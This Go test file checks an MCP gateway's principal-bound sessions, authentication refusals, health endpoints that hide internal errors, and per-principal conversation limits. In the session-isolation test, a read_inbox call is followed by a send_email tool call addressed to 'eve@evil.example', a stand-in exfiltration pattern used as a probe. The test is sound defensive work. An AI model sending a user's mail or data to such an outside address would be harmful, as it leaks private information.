package mcp_test

import (
	"context"
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	sdk "github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/remit-project/remit/internal/mcp"
)

// badges are principals that say who they are.
type badges struct{}

func (badges) Authenticate(r *http.Request) (string, error) {
	who := r.Header.Get("X-Badge")
	if who == "forged" {
		return "", errors.New("that badge is forged")
	}
	return who, nil
}

func (badges) Challenge(w http.ResponseWriter, _ error) {
	http.Error(w, "show a badge", http.StatusUnauthorized)
}

// An anchor is its principal's: another principal that knows it gets a session of
// its own, and no way into one of the older generation.
func TestSessionsArePrincipals(t *testing.T) {
	generations(t, func(t *testing.T, version string) {
		g, log := gateway(t, mcp.Options{Servers: []mcp.Server{child(t, "desk", "desk")}})
		url := serveHTTP(t, g, mcp.HTTP{Auth: badges{}, MetaKey: "example.com/conversation"})
		// read reports whether what a principal reads is known where another calls.
		knows := func(who string) bool {
			t.Helper()
			s := connect(t, &sdk.StreamableClientTransport{Endpoint: url + "/mcp/" + run, HTTPClient: &http.Client{Transport: adding{http.Header{"X-Badge": {who}}}}}, nil, version)
			r := call(t, s, "send_email", mail{To: "eve@evil.example", Body: "x"})
			return strings.Contains(textOf(r), "result:")
		}
		ann := connect(t, &sdk.StreamableClientTransport{Endpoint: url + "/mcp/" + run, HTTPClient: &http.Client{Transport: adding{http.Header{"X-Badge": {"ann"}}}}}, nil, version)
		call(t, ann, "read_inbox", empty{})
		if !knows("ann") {
			t.Error("ann doesn't find her session again")
		}
		if knows("bob") {
			t.Error("bob is in ann's session")
		}
		if !strings.Contains(log.String(), "principal=ann") {
			t.Error("the log doesn't name the principal")
		}
		if id := ann.ID(); id != "" {
			status, body := post(t, url+"/mcp/"+run, `{"jsonrpc":"2.0","id":1,"method":"ping"}`, map[string]string{"X-Badge": "bob", "Mcp-Session-Id": id})
			if status != http.StatusNotFound {
				t.Errorf("bob uses ann's session id: %d %s", status, body)
			}
		}
	})
}

// Who isn't known gets nowhere, and a name that is none doesn't either.
func TestUnknownPrincipals(t *testing.T) {
	g, _ := gateway(t, mcp.Options{Servers: []mcp.Server{child(t, "desk", "desk")}})
	url := serveHTTP(t, g, mcp.HTTP{Auth: badges{}})
	for name, badge := range map[string]string{"forged": "forged", "none": "", "endless": strings.Repeat("x", 300)} {
		t.Run(name, func(t *testing.T) {
			for _, path := range []string{"/mcp", "/mcp/" + run, "/runs"} {
				if status, body := post(t, url+path, `{"jsonrpc":"2.0","id":1,"method":"ping"}`, map[string]string{"X-Badge": badge}); status != http.StatusUnauthorized {
					t.Errorf("%s: %d %s", path, status, body)
				}
			}
		})
	}
}

// Any client learns whether the gateway runs and can serve, and nothing else.
func TestHealth(t *testing.T) {
	g, _ := gateway(t, mcp.Options{Servers: []mcp.Server{child(t, "desk", "desk")}})
	broken := errors.New("the password of the store is wrong: hunter2")
	var ready error
	h := mcp.NewHandler(g, mcp.HTTP{Auth: badges{}, Ready: func(context.Context, bool) error { return ready }})
	ask := func(path, want string, status int) {
		t.Helper()
		w := httptest.NewRecorder()
		h.ServeHTTP(w, httptest.NewRequest(http.MethodGet, "http://anything.example"+path, nil))
		body, _ := io.ReadAll(w.Body)
		if w.Code != status || strings.TrimSpace(string(body)) != want {
			t.Errorf("%s: %d %s", path, w.Code, body)
		}
	}
	ask("/healthz", `{"status":"ok"}`, 200)
	ask("/readyz", `{"status":"ok"}`, 200)
	ready = broken
	ask("/healthz", `{"status":"ok"}`, 200)
	ask("/readyz", `{"status":"unavailable"}`, 503)
	ready = nil
	if err := g.Close(t.Context()); err != nil {
		t.Fatal(err)
	}
	ask("/readyz", `{"status":"unavailable"}`, 503)
}

// One principal holds at most half of the conversations, so that others get in.
func TestAPrincipalsConversations(t *testing.T) {
	g, _ := gateway(t, mcp.Options{Servers: []mcp.Server{child(t, "desk", "desk")}, Limits: mcp.Limits{Conversations: 4}})
	url := serveHTTP(t, g, mcp.HTTP{Auth: badges{}})
	const hello = `{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"x","version":"1"}}}`
	for i, c := range []struct {
		who     string
		refused bool
	}{{"ann", false}, {"ann", false}, {"ann", true}, {"bob", false}, {"bob", false}, {"cleo", true}} {
		_, body := post(t, url+"/mcp", hello, map[string]string{"X-Badge": c.who})
		if refused := strings.Contains(body, "are connected already"); refused != c.refused {
			t.Errorf("%d: %s refused %t: %s", i, c.who, refused, body)
		}
	}
}
